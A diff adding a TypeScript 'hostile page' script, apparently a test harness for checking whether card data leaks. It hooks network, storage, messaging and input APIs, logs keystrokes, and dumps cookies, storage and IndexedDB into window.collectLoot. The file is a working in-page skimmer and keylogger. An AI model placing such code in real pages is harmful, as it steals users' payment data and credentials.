@@ -1,0 +1,195 @@
+/** Something that a hostile page got hold of, and how. */
+export interface Loot {
+  readonly where: string;
+  readonly text: string;
+}
+
+declare global {
+  interface Window {
+    /** All that the page has got hold of so far; looks around once more before it answers. */
+    readonly collectLoot: () => Promise<readonly Loot[]>;
+    /** Every port that a `MessageChannel` of the page has made. */
+    readonly stolenPorts: readonly MessagePort[];
+  }
+}
+
+/**
+ * The first script of a hostile page: puts itself between the page and everything that could carry a card, and keeps every
+ * text that passes. Runs in the page, so it refers to nothing outside itself.
+ */
+export function steal(): void {
+  const loot: Loot[] = [];
+  const seen = new Set<string>();
+  const roots: ShadowRoot[] = [];
+  const ports: MessagePort[] = [];
+  let keys = '';
+  const listen = Object.getOwnPropertyDescriptor(EventTarget.prototype, 'addEventListener')?.value as (
+    ...given: unknown[]
+  ) => void;
+
+  const keep = (where: string, text: string): void => {
+    if (text === '' || seen.has(`${where} ${text}`)) return;
+    seen.add(`${where} ${text}`);
+    loot.push({where, text});
+  };
+
+  /** What a value is made of; a cross-origin window throws at every touch, and has nothing. */
+  const partsOf = (value: object): readonly unknown[] => {
+    if (value instanceof Event) {
+      const {data, detail, key, clipboardData, target} = value as Event & Record<string, unknown>;
+      const pasted = clipboardData instanceof DataTransfer ? clipboardData.getData('text') : undefined;
+      return [data, detail, key, pasted, target instanceof HTMLInputElement ? target.value : undefined];
+    }
+    if (value instanceof Node || value instanceof MessagePort) return [];
+    if (value instanceof ArrayBuffer) return [new TextDecoder().decode(value)];
+    if (ArrayBuffer.isView(value)) return [new TextDecoder().decode(value), [...(value as Uint8Array)].join()];
+    if (Symbol.iterator in value) return [...(value as Iterable<unknown>)];
+    return Object.entries(value).flat();
+  };
+  const readLater = (where: string, value: object): void => {
+    const read = value instanceof Request || value instanceof Response ? value.clone().text() : undefined;
+    const text = read ?? (value instanceof Blob ? value.text() : undefined);
+    void text?.then((got) => keep(where, got)).catch(() => undefined);
+    if ('url' in value && typeof value.url === 'string') keep(where, value.url);
+  };
+  const take = (where: string, value: unknown, depth = 0): void => {
+    if (typeof value === 'string') keep(where, value);
+    else if (typeof value === 'number' || typeof value === 'bigint') keep(where, String(value));
+    if (typeof value !== 'object' || value === null || depth > 6) return;
+    try {
+      readLater(where, value);
+      for (const part of partsOf(value)) take(where, part, depth + 1);
+    } catch {
+      // Another origin's.
+    }
+  };
+
+  const wrap = (target: object, name: string, where = name): void => {
+    const original: unknown = Reflect.get(target, name);
+    if (typeof original !== 'function') return;
+    const wrapped = function (this: unknown, ...given: unknown[]): unknown {
+      take(where, given);
+      const result: unknown = Reflect.apply(original, this, given);
+      if (result instanceof Promise) void result.then((got) => take(where, got)).catch(() => undefined);
+      else if (result instanceof ShadowRoot) roots.push(result);
+      else take(where, result);
+      return result;
+    };
+    Reflect.set(target, name, wrapped);
+  };
+  const wrapConstructor = (name: string, isMade: (made: object) => void = () => undefined): void => {
+    const construct = (original: object, given: unknown[]): object => {
+      take(name, given);
+      const made = Reflect.construct(original as new () => object, given) as object;
+      isMade(made);
+      return made;
+    };
+    Reflect.set(window, name, new Proxy(Reflect.get(window, name) as object, {construct}));
+  };
+  const overhear = (where: string, handler: object): unknown =>
+    new Proxy(handler, {
+      apply(target, self, given: unknown[]): unknown {
+        take(where, given);
+        return Reflect.apply(target as () => unknown, self, given);
+      },
+    });
+  const wrapProperty = (target: object, name: string): void => {
+    const original = Object.getOwnPropertyDescriptor(target, name);
+    Object.defineProperty(target, name, {
+      configurable: true,
+      get(this: object): unknown {
+        const got: unknown = original?.get?.call(this);
+        take(name, got);
+        return got;
+      },
+      set(this: object, value: unknown) {
+        take(name, value);
+        original?.set?.call(this, typeof value === 'function' ? overhear(name, value) : value);
+      },
+    });
+  };
+
+  wrap(window, 'fetch');
+  for (const name of ['open', 'send', 'setRequestHeader']) wrap(XMLHttpRequest.prototype, name, 'XMLHttpRequest');
+  for (const name of ['log', 'info', 'warn', 'error', 'debug', 'trace', 'dir', 'table']) wrap(console, name, 'console');
+  for (const name of ['pushState', 'replaceState']) wrap(history, name, 'history');
+  for (const name of ['add', 'put']) wrap(IDBObjectStore.prototype, name, 'indexedDB');
+  for (const name of ['stringify', 'parse']) wrap(JSON, name, 'JSON');
+  wrap(navigator, 'sendBeacon');
+  wrap(Storage.prototype, 'setItem', 'Storage');
+  wrap(window, 'postMessage', 'window.postMessage');
+  wrap(window, 'structuredClone');
+  wrap(MessagePort.prototype, 'postMessage', 'port.postMessage');
+  wrap(Element.prototype, 'attachShadow');
+  wrap(Element.prototype, 'setAttribute');
+  wrap(TextEncoder.prototype, 'encode');
+  wrap(SubtleCrypto.prototype, 'digest');
+  wrapProperty(HTMLInputElement.prototype, 'value');
+  wrapProperty(MessagePort.prototype, 'onmessage');
+  for (const name of ['WebSocket', 'EventSource', 'XMLHttpRequest', 'Worker', 'BroadcastChannel'])
+    wrapConstructor(name);
+  wrapConstructor('MessageChannel', (made) => {
+    const {port1, port2} = made as MessageChannel;
+    ports.push(port1, port2);
+    listen.call(port1, 'message', (event: unknown) => take('port', event));
+  });
+  EventTarget.prototype.addEventListener = function (this: EventTarget, ...given: unknown[]): void {
+    listen.call(this, given[0], (event: unknown) => take('addEventListener', event), true);
+    listen.apply(this, given);
+  };
+  for (const type of [
+    'keydown',
+    'keyup',
+    'beforeinput',
+    'input',
+    'change',
+    'paste',
+    'copy',
+    'drop',
+    'message',
+    'focusin',
+  ])
+    listen.call(window, type, (event: unknown) => take(`window ${type}`, event), true);
+  listen.call(window, 'keydown', (event: KeyboardEvent) => (keys += event.key), true);
+
+  const lookAround = async (): Promise<void> => {
+    const serializer = new XMLSerializer();
+    for (const root of [document, ...roots]) {
+      for (const child of root.children) keep('DOM', serializer.serializeToString(child));
+      for (const input of root.querySelectorAll('input')) keep('DOM', input.value);
+      for (const frame of root.querySelectorAll('iframe'))
+        take('frame', [frame.src, frame.contentDocument?.body.textContent]);
+    }
+    take('storage', [{...localStorage}, {...sessionStorage}, document.cookie, location.href, history.state]);
+    take(
+      'performance',
+      performance.getEntries().map(({name}) => name),
+    );
+    take('selection', [String(getSelection()), document.title, window.name]);
+    for (const {name} of await indexedDB.databases()) take('indexedDB', await dump(name ?? ''));
+  };
+  const dump = (name: string): Promise<readonly unknown[]> =>
+    new Promise((resolve) => {
+      const opening = indexedDB.open(name);
+      opening.onsuccess = () => {
+        const stores = [...opening.result.objectStoreNames];
+        const reading = opening.result.transaction(stores);
+        const found = stores.flatMap((store) => [
+          reading.objectStore(store).getAll(),
+          reading.objectStore(store).getAllKeys(),
+        ]);
+        reading.oncomplete = () => {
+          opening.result.close();
+          resolve(found.map(({result}) => result));
+        };
+      };
+    });
+
+  Object.defineProperty(window, 'stolenPorts', {value: ports});
+  Object.defineProperty(window, 'collectLoot', {
+    value: async () => {
+      await lookAround();
+      return [...loot, {where: 'keys', text: keys}];
+    },
+  });
+}
